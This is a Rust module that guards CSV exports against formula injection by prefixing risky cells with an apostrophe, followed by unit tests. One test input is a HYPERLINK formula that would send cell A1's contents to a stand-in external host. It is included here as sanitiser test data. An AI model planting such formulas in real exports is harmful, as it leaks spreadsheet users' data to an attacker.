//! Text that goes into a CSV cell must never become a formula when a spreadsheet opens the file
//! (OWASP's CSV injection rule): a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading apostrophe, which Excel and LibreOffice show as text and do not run.
//! Every CSV the app writes goes through [`neutralise`]; XLSX cells are written as strings and
//! need nothing.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (or hide one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell's text as it is safe to write into a CSV file.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_text() {
        assert_eq!(
            neutralise("=HYPERLINK(\"http://x.example/?\"&A1,\"klicka\")"),
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"klicka\")"
        );
        for start in ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert!(neutralise(start).starts_with('\''), "{start:?}");
        }
    }

    #[test]
    fn plain_text_dates_and_empty_cells_stay_as_they_are() {
        for text in [
            "Hemtjänst Norr",
            "2026-12-05",
            "",
            "Tas upp; på APT",
            " =inte först",
        ] {
            assert!(
                matches!(neutralise(text), Cow::Borrowed(t) if t == text),
                "{text:?}"
            );
        }
    }
}
